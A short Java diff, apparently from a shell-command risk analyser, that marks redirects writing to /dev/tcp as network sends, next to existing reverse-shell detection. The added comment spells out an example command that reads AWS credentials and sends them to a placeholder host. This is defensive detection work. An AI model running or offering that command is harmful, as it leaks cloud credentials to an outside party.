@@ -286,6 +286,11 @@ final class CommandReader {
                 if (SHELLS.contains(c.program()) || c.program().equals("exec")) {
                     r.signals.add(Signal.REVERSE_SHELL);
                 }
+                if (redirect.writesFile()) {
+                    // bash(1) REDIRECTION: writing to /dev/tcp/HOST/PORT opens a connection and sends what the
+                    // command prints, like a network client (`cat ~/.aws/credentials > /dev/tcp/HOST/PORT`).
+                    r.sends = true;
+                }
             }
         }
         if (c.stdin() instanceof Input.File(Word path)) {
